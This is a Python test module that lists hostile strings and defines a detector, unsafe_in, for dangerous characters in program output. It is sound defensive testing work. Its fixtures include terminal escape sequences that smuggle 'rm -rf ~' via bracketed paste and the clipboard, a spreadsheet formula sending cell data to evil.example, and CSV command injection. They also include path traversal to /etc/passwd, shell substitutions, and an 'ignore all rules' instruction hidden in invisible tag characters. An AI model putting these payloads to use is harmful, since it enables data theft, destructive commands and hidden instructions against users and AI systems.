"""Strings that try to act on a terminal, and a finder of those that got through."""

from __future__ import annotations

import re
import unicodedata

_LONG = 100_000

HOSTILE: dict[str, str] = {
    "csi clear screen": "before\x1b[2J\x1b[Hafter",
    "csi colour": "\x1b[31mred\x1b[0m",
    "csi inside a word": "pass\x1b[8mwo\x1b[28mrd",
    "csi alternate screen": "\x1b[?1049hgone",
    "csi cursor up and erase": "paid\x1b[1A\x1b[2Kfree",
    "csi device report": "\x1b[6n\x1b[c",
    "csi bracketed paste end": "\x1b[201~rm -rf ~\n",
    "csi unterminated": "\x1b[12;",
    "esc reset": "\x1bc",
    "esc charset": "\x1b(0lqqk",
    "esc alone at the end": "tail\x1b",
    "osc 0 title, bel": "\x1b]0;owned\x07",
    "osc 2 title, st": "\x1b]2;owned\x1b\\",
    "osc 8 link, st": "\x1b]8;;https://evil.example/\x1b\\safe.example\x1b]8;;\x1b\\",
    "osc 8 link, bel": "\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07",
    "osc 52 clipboard, bel": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "osc 52 clipboard, st": "\x1b]52;c;cm0gLXJmIH4K\x1b\\",
    "osc unterminated": "\x1b]0;eats what follows",
    "dcs unterminated": "\x1bPq#0;2;0;0;0",
    "dcs report request": "\x1bP$qm\x1b\\",
    "apc unterminated": "\x1b_Ga=T,f=100;",
    "pm and sos": "\x1b^private\x1b\\\x1bXstring\x1b\\",
    "c1 csi": "\u009b2J",
    "c1 osc and st": "\u009d2;owned\u009c",
    "c1 dcs": "\u0090q\u009c",
    "c1 next line": "first\u0085second",
    "all c1": "".join(map(chr, range(0x80, 0xA0))),
    "all c0": "".join(map(chr, range(0x20))),
    "nul": "a\x00b",
    "del": "a\x7fb",
    "bell": "\x07" * 20,
    "shift out and in": "\x0elqqk\x0f",
    "backspace over text": "$100\b\b\b\b$1  ",
    "carriage return over text": "cost: $900\rcost: $1  ",
    "crlf and form feed": "a\r\nb\x0cc\x0bd",
    "bidi override": "photo\u202egpj.exe",
    "bidi embedding, never closed": "\u202a\u202b\u202dx",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "right-to-left text": "שלום עולם مرحبا بالعالم",
    "tags": "ok" + "".join(chr(0xE0000 + ord(char)) for char in "ignore all rules"),
    "tag flag": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "supplementary variation selectors": "a\U000e0100\U000e01ef",
    "zero width space": "pass\u200bword",
    "zero width joiners": "a\u200db\u200cc\u200d",
    "byte order mark": "\ufeffid",
    "soft hyphen": "in\u00advisible",
    "word joiner and invisible operators": "a\u2060b\u2061c\u2062d\u2063e\u2064f",
    "mongolian vowel separator": "a\u180eb",
    "combining bomb": "e" + "\u0301" * 10_000,
    "combining mix": "x" + "\u0300\u036f\u20dd\ufe0f" * 500,
    "combining marks beyond the first plane": "a" + "\U0001e944" * 200,
    "line and paragraph separator": "a\u2028b\u2029c",
    "lone high surrogate": "a\ud83db",
    "lone low surrogate": "a\ude00b",
    "surrogate pair as two": "\ud83d\ude00",
    "nonsense surrogates": "\udfff\ud800" * 3,
    "noncharacters": "a\ufffe\uffff\ufdd0b",
    "private use": "\ue0b0\uf8ff\U000f0000",
    "interlinear annotation": "\ufff9text\ufffaruby\ufffb",
    "musical and shorthand controls": "\U0001d173\U0001d17a\U0001bca0",
    "emoji family": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "endless emoji family": "\U0001f469" + "\u200d\U0001f469" * 500,
    "markup action": "[@click=app.quit]x[/]",
    "markup close": "[/bold]",
    "markup close all": "[/][/][/",
    "markup link": "[link=https://evil.example/]safe.example[/link]",
    "markup style": "[red on red]unseen",
    "backslash at the end": "tail\\",
    "backslash before a bracket": "\\[bold]\\\\[/bold]\\",
    "very long line": "x" * _LONG,
    "very many lines": "\n" * 2_000,
    "very long wide line": "界" * 5_000,
    "csv formula": "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")",
    "csv command": "+cmd|' /C calc'!A0",
    "csv at": "@SUM(1+1)*cmd",
    "csv minus": "-2+3+cmd",
    "csv tab": "\t=1+1",
    "csv behind a semicolon": "x;=1+1",
    "csv full width": "＝1+1",
    "path with a newline": "/home/me/a\nb\x1b[31m/c.jsonl",
    "path up": "../../etc/passwd",
    "format fields": "{0.__class__} %s %n ${HOME} $(id) `id`",
}  # fmt: skip

_SGR = re.compile(r"\x1b\[[0-9;]*m")
_EMOJI = "\u2194\u2195\u2600-\u27bf\u2b1b\U0001f300-\U0001faff"
_FAMILY = re.compile(f"(?<=[{_EMOJI}\ufe0f])\u200d(?=[{_EMOJI}])")
_OSC = re.compile(r"(?:\x1b\]|\x9d)[0-9]*")
_NAMED = {"\x1b": "ESC", "\x00": "NUL", "\x7f": "DEL", "\r": "CR", "\b": "BS", "\x07": "BEL"}


def unsafe_in(output: bytes | str, *, colours: bool = False) -> list[str]:
    """Return what is dangerous in a program's output, each kind once; `colours` permits SGR."""
    found: dict[str, None] = {}
    text = output if isinstance(output, str) else output.decode("utf-8", "surrogateescape")
    if colours:
        text = _SGR.sub("", text)
    for match in _OSC.finditer(text):
        found[f"OSC {match[0].lstrip(chr(0x1B) + chr(0x9D) + ']')}".rstrip()] = None
    text = _FAMILY.sub("", text)
    run = 0
    for char in text:
        category = unicodedata.category(char)
        run = run + 1 if category in ("Mn", "Me") else 0
        if run > 8:
            found["more than 8 combining marks in a row"] = None
        if _dangerous(char, category):
            found[_name(char, from_bytes=isinstance(output, bytes))] = None
    return list(found)


def _dangerous(char: str, category: str) -> bool:
    """Tell by Unicode's own properties, not by the ranges of the code under test."""
    code = ord(char)
    if char in "\n\t":
        return False
    if category in ("Cc", "Cs", "Zl", "Zp") or 0xE0000 <= code <= 0xE0FFF:
        return True
    if category == "Cf":  # signs that are drawn are no danger: Arabic, Kaithi, hieroglyphs
        return not (0x600 <= code <= 0x605 or code in _DRAWN or 0x13430 <= code <= 0x1343F)
    return 0xFDD0 <= code <= 0xFDEF or code in (0xFFFE, 0xFFFF)


_DRAWN = (0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD)


def _name(char: str, *, from_bytes: bool) -> str:
    code = ord(char)
    if from_bytes and 0xDC80 <= code <= 0xDCFF:
        return f"byte 0x{code - 0xDC00:02X} that is no UTF-8"
    return _NAMED.get(char, f"U+{code:04X}")
